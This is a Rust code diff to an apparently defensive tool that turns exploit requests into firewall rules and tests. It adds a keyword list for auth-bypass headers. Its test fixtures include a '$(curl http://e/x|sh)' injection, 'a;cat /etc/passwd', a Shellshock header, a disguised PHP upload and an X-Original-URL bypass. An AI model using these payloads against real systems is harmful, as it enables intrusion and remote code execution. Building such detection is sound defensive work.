@@ -165,11 +165,60 @@ fn without_shape(draft: &mut Draft, requests: &[SourceRequest], normal: &[Source
             }
         }
     }
+    let telling = requests.iter().find_map(|request| {
+        let unusual = |part: &Part| match &part.place {
+            Place::Header(name) => is_telling(name) && !normal.iter().any(|n| n.header(name).is_some()),
+            _ => false,
+        };
+        Some((request, parts(request).into_iter().find(unusual)?))
+    });
+    if let Some((request, part)) = telling {
+        draft.open.push(format!(
+            "nothing is known to be hostile; {} is taken to be so because its name tells who asks or what is asked for, and \
+             no browser sends it: whether a proxy in front or a client of your own does",
+            part.place.named()
+        ));
+        (draft.request, draft.part) = (request.clone(), Some(part));
+        return;
+    }
     draft.open.push(
         "no value of the request is known to be hostile, so the patch blocks the method on this path altogether; \
          --normal FILE with ordinary requests helps to tell"
             .to_owned(),
     );
+}
+
+/// Whether a header's name says that an application takes from it who asks, or what for.
+fn is_telling(name: &str) -> bool {
+    let name = name.to_ascii_lowercase().replace('_', "-");
+    let usual = [
+        "authorization",
+        "x-requested-with",
+        "x-forwarded-for",
+        "x-forwarded-proto",
+        "x-forwarded-host",
+        "user-agent",
+    ];
+    let words = [
+        "original",
+        "rewrite",
+        "override",
+        "internal",
+        "bypass",
+        "middleware",
+        "subrequest",
+        "remote-user",
+        "-user",
+        "auth",
+        "admin",
+        "role",
+        "impersonat",
+        "as-user",
+        "x-real",
+        "client-ip",
+        "originating",
+    ];
+    !usual.contains(&name.as_str()) && words.iter().any(|word| name.contains(word))
 }
 
 /// The tests, before they have been tried.
@@ -178,6 +227,29 @@ fn propose(draft: &mut Draft, normal: &[SourceRequest]) {
     let mut passes: Vec<(String, SourceRequest)> =
         normal.iter().map(|request| ("an ordinary request".to_owned(), request.clone())).collect();
     match draft.part.clone() {
+        Some(Part { place: Place::Header(name), .. })
+            if draft.shape.is_none() && draft.ordinary.is_none() =>
+        {
+            draft.matches = vec![("as it was".to_owned(), request.clone())];
+            let header = |change: &dyn Fn(&mut (String, String))| {
+                let mut out = request.clone();
+                out.headers.iter_mut().filter(|(n, _)| n.eq_ignore_ascii_case(&name)).for_each(change);
+                out
+            };
+            draft.matches.push(("another value".to_owned(), header(&|h| "1".clone_into(&mut h.1))));
+            draft.matches.push(("an empty value".to_owned(), header(&|h| h.1.clear())));
+            draft.matches.push(("in upper case".to_owned(), header(&|h| h.0.make_ascii_uppercase())));
+            let target = format!("/elsewhere-{}", draft.name);
+            draft.matches.push(("on another path".to_owned(), SourceRequest { target, ..request.clone() }));
+            let mut without = request.clone();
+            without.headers.retain(|(n, _)| !n.eq_ignore_ascii_case(&name));
+            passes.push(("without the header".to_owned(), without.clone()));
+            without.target.push_str(if without.target.contains('?') { "&x=1" } else { "?x=1" });
+            passes.push(("another query without it".to_owned(), without));
+            draft.open.push(
+                "the condition holds on every path; name those that matter if you know them".to_owned(),
+            );
+        }
         Some(part) => {
             let variants = variants(&request, &part, draft.shape);
             draft.matches = variants.into_iter().map(|v| (v.what.to_owned(), v.request)).collect();
@@ -287,6 +359,9 @@ fn run(draft: &Draft) -> Result<Vec<bool>, String> {
 fn told(draft: &Draft, fell: &[String]) -> String {
     let mut out = match (&draft.part, draft.shape) {
         (Some(part), Some(shape)) => format!("found {} in {}\n", shape.name, part.place.named()),
+        (Some(part), None) if draft.ordinary.is_none() => {
+            format!("found no hostile value, but {}\n", part.place.named())
+        }
         (Some(part), None) => format!("found a value that is not ordinary in {}\n", part.place.named()),
         _ => "found no hostile value\n".to_owned(),
     };
@@ -367,6 +442,11 @@ mod tests {
                 "a JNDI lookup",
             ),
             (
+                "curl http://h/api -H 'Content-Type: application/json' -d '{\"s\": [{\"t\": 1}, {\"c\": \"$(curl http://e/x|sh)\"}]}' | jq .",
+                Place::Json("json.s.array_1.c".to_owned()),
+                "a shell command",
+            ),
+            (
                 "GET / HTTP/1.1\nUser-Agent: () { :; }; /bin/id\n\n",
                 Place::Header("User-Agent".to_owned()),
                 "a shell function",
@@ -408,6 +488,38 @@ mod tests {
         assert_eq!(draft.ordinary, Some("[0-9]{1,20}"));
         let (draft, _) = drafted(exploit, "");
         assert!(draft.part.is_none() && draft.open.iter().any(|line| line.contains("altogether")));
+    }
+
+    #[test]
+    fn a_place_in_a_list_is_any_place_in_it() {
+        let (draft, _) = drafted(
+            "curl http://h/api -H 'Content-Type: application/json' -d '{\"s\": [{\"c\": \"a;cat /etc/passwd\"}]}'",
+            "",
+        );
+        let written = draft.write();
+        assert!(written.contains(r"'ARGS:/^json\.s\.array_[0-9]+\.c$/'"), "{written}");
+        for what in ["further on in its list", "written as escapes"] {
+            assert!(draft.matches.iter().any(|(note, _)| note == what), "{what}: {written}");
+        }
+    }
+
+    #[test]
+    fn a_header_that_tells_who_asks_is_told() {
+        let exploit = "GET /admin/users HTTP/1.1\nHost: h\nX-Token: 1\nX-Original-URL: /public\n\n";
+        let (draft, fell) = drafted(exploit, "");
+        let written = draft.write();
+        assert!(written.contains("'&REQUEST_HEADERS:X-Original-URL'") && fell.is_empty(), "{written}");
+        assert!(draft.matches.len() == 5 && draft.passes.len() == 2, "{written}");
+        // Which ordinary requests have too.
+        let (draft, _) = drafted(exploit, "GET /a HTTP/1.1\nX-Original-URL: /a\n\n");
+        assert!(draft.part.is_none());
+    }
+
+    #[test]
+    fn uploads_are_written_as_text() {
+        let text = "POST /up HTTP/1.1\nContent-Type: multipart/form-data; boundary=b\n\n--b\nContent-Disposition: form-data; name=\"f\"; filename=\"s.php\"\n\n  GIF89a\n\n<?php x\n--b--\n";
+        let written = drafted(text, "").0.write();
+        assert!(!written.contains("body_base64") && written.contains("            GIF89a\n"), "{written}");
     }
 
     #[test]
